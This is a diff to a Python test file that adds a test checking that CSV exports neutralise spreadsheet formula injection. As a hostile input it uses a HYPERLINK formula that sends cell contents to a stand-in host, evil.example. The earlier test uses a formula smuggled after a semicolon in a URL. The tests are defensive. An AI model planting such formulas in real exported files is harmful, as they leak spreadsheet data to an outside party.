@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import importlib.util
 import re
 import sys
@@ -118,3 +119,11 @@ def test_no_address_runs_in_a_spreadsheet_that_parts_at_semicolons() -> None:
     hostile = StreamView(number=1, url="http://pirate.example/;=1+1;x", sealed=(sealed,))
     _, line = exhibit_list([hostile], in_bag=None).decode().splitlines()
     assert line.startswith("1,http://pirate.example/;'=1+1;x,")
+
+
+def test_no_kind_that_somebody_appended_runs_in_a_spreadsheet() -> None:
+    what = term("exhibit", '=HYPERLINK("http://evil.example/?x="&A1)')
+    sealed = SealedLine(exhibit=ExhibitId("sha256:" + "0" * 64), what=what)
+    stream = StreamView(number=1, url="http://pirate.example/", sealed=(sealed,))
+    _, row = csv.reader(exhibit_list([stream], in_bag=None).decode().splitlines())
+    assert row[2].startswith("'=HYPERLINK")
